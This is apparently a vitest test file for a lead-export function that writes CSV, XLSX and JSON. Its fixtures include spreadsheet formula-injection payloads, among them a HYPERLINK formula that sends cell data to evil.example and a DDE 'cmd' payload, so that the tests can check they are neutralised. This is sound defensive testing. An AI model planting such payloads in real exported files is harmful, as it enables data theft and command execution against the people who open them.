import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openImportFile } from '../import/read-file.ts';
import { writeExport, type ExportColumn } from './write-export.ts';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'sdr-export-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const columns: ExportColumn[] = [
  { key: 'firstName', label: 'First name' },
  { key: 'phone', label: 'Phone' },
  { key: 'company', label: 'Company' },
  { key: 'companySize', label: 'Employees' },
  { key: 'tags', label: 'Tags' },
  { key: 'doNotContact', label: 'Do not contact' },
  { key: 'custom.plan', label: 'Plan' },
  { key: 'notes', label: 'Notes' },
];

const rows: Record<string, unknown>[] = [
  {
    firstName: 'Ada',
    phone: '+14155550123',
    company: 'Analytical Engines, Inc.',
    companySize: 51,
    tags: ['vip', 'webinar'],
    doNotContact: false,
    custom: { plan: 'Pro' },
    notes: 'Line one\nline "two"',
  },
  {
    firstName: '=HYPERLINK("http://evil.example/?x="&A2,"Click me")',
    phone: '+44 20 7946 0958',
    company: '@SUM(A1:A9)',
    companySize: -5,
    tags: ['=1+2'],
    doNotContact: true,
    custom: { plan: null },
    notes: '-2+3',
  },
  {
    firstName: "+cmd|' /C calc'!A0",
    phone: null,
    company: '\tTabbed',
    companySize: null,
    tags: [],
    doNotContact: null,
    notes: 'Zoë – café',
  },
];

async function* slowly<T>(items: readonly T[]): AsyncGenerator<T> {
  for (const item of items) {
    await new Promise((resolve) => setImmediate(resolve));
    yield item;
  }
}

describe('writeExport: csv', () => {
  it('writes a header and the rows, neutralising formulas but not numbers or phones', async () => {
    const file = path.join(dir, 'leads.csv');
    expect(await writeExport(rows, { format: 'csv', columns, path: file })).toBe(3);
    const text = await readFile(file, 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toEqual([
      ['First name', 'Phone', 'Company', 'Employees', 'Tags', 'Do not contact', 'Plan', 'Notes'],
      [
        'Ada',
        '+14155550123',
        'Analytical Engines, Inc.',
        '51',
        'vip; webinar',
        'false',
        'Pro',
        'Line one\nline "two"',
      ],
      [
        `'=HYPERLINK("http://evil.example/?x="&A2,"Click me")`,
        '+44 20 7946 0958',
        "'@SUM(A1:A9)",
        '-5',
        "'=1+2",
        'true',
        '',
        "'-2+3",
      ],
      ["'+cmd|' /C calc'!A0", '', "'\tTabbed", '', '', '', '', 'Zoë – café'],
    ]);
  });

  it('reads back through our own importer (round trip)', async () => {
    const file = path.join(dir, 'round.csv');
    await writeExport(slowly(rows), { format: 'csv', columns, path: file });
    const imported = await openImportFile(file);
    expect(imported).toMatchObject({ encoding: 'utf-8', delimiter: ',' });
    expect(imported.headers).toEqual(columns.map((c) => c.label));
    const cells: string[][] = [];
    for await (const row of imported.rows()) cells.push(row.cells);
    expect(cells[0]![7]).toBe('Line one\nline "two"');
    expect(cells[2]![7]).toBe('Zoë – café');
  });

  it('streams many rows from an async source in chunks', async () => {
    const file = path.join(dir, 'many.csv');
    async function* many(): AsyncGenerator<Record<string, unknown>> {
      for (let i = 0; i < 20_000; i += 1) yield { firstName: `Lead ${i}`, companySize: i };
    }
    const count = await writeExport(many(), {
      format: 'csv',
      columns: [
        { key: 'firstName', label: 'Name' },
        { key: 'companySize', label: 'Size' },
      ],
      path: file,
      bom: false,
    });
    expect(count).toBe(20_000);
    const parsed = Papa.parse<string[]>(await readFile(file, 'utf8'), { skipEmptyLines: true });
    expect(parsed.data).toHaveLength(20_001);
    expect(parsed.data[20_000]).toEqual(['Lead 19999', '19999']);
  });
});

describe('writeExport: xlsx', () => {
  it('writes typed cells; formula-looking text stays a string cell, never a formula', async () => {
    const file = path.join(dir, 'leads.xlsx');
    expect(await writeExport(slowly(rows), { format: 'xlsx', columns, path: file })).toBe(3);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const sheet = workbook.getWorksheet('Leads')!;
    expect(sheet.getRow(1).values).toEqual([undefined, ...columns.map((c) => c.label)]);
    const ada = sheet.getRow(2);
    expect(ada.getCell(1).value).toBe('Ada');
    expect(ada.getCell(2).value).toBe('+14155550123');
    expect(ada.getCell(4).value).toBe(51);
    expect(ada.getCell(5).value).toBe('vip; webinar');
    expect(ada.getCell(6).value).toBe(false);
    expect(ada.getCell(7).value).toBe('Pro');
    const evil = sheet.getRow(3);
    for (const col of [1, 3, 5, 8]) {
      expect(evil.getCell(col).type).toBe(ExcelJS.ValueType.String);
      expect(evil.getCell(col).formula).toBeUndefined();
    }
    expect(evil.getCell(1).value).toBe('=HYPERLINK("http://evil.example/?x="&A2,"Click me")');
    expect(evil.getCell(4).value).toBe(-5);
    expect(sheet.getRow(4).getCell(2).value).toBeNull();
    expect(sheet.rowCount).toBe(4);
    // The raw sheet XML has no formula element at all.
    const imported = await openImportFile(file);
    const cells: string[][] = [];
    for await (const row of imported.rows()) cells.push(row.cells);
    expect(cells[1]![0]).toBe('=HYPERLINK("http://evil.example/?x="&A2,"Click me")');
  });
});

describe('writeExport: json', () => {
  it('streams a JSON array of the columns, values unchanged', async () => {
    const file = path.join(dir, 'leads.json');
    expect(await writeExport(slowly(rows), { format: 'json', columns, path: file })).toBe(3);
    const parsed = JSON.parse(await readFile(file, 'utf8')) as Record<string, unknown>[];
    expect(parsed).toHaveLength(3);
    expect(parsed[0]).toEqual({
      firstName: 'Ada',
      phone: '+14155550123',
      company: 'Analytical Engines, Inc.',
      companySize: 51,
      tags: ['vip', 'webinar'],
      doNotContact: false,
      'custom.plan': 'Pro',
      notes: 'Line one\nline "two"',
    });
    expect(parsed[1]!.firstName).toBe('=HYPERLINK("http://evil.example/?x="&A2,"Click me")');
    expect(parsed[2]!['custom.plan']).toBeNull();
  });

  it('writes [] for no rows', async () => {
    const file = path.join(dir, 'none.json');
    expect(await writeExport([], { format: 'json', columns, path: file })).toBe(0);
    expect(JSON.parse(await readFile(file, 'utf8'))).toEqual([]);
  });
});

describe('writeExport: failures', () => {
  it('leaves no file behind when the rows fail midway', async () => {
    const file = path.join(dir, 'broken.csv');
    async function* failing(): AsyncGenerator<Record<string, unknown>> {
      yield { firstName: 'Ada' };
      throw new Error('database went away');
    }
    for (const format of ['csv', 'json', 'xlsx'] as const) {
      await expect(writeExport(failing(), { format, columns, path: file })).rejects.toThrow(
        'database went away',
      );
    }
    expect((await readdir(dir)).filter((f) => f.startsWith('broken'))).toEqual([]);
  });

  it('rejects when the target directory does not exist', async () => {
    const file = path.join(dir, 'missing', 'x.csv');
    await expect(writeExport(rows, { format: 'csv', columns, path: file })).rejects.toThrow(
      /ENOENT/,
    );
    await expect(writeExport(rows, { format: 'json', columns, path: file })).rejects.toThrow(
      /ENOENT/,
    );
  });
});
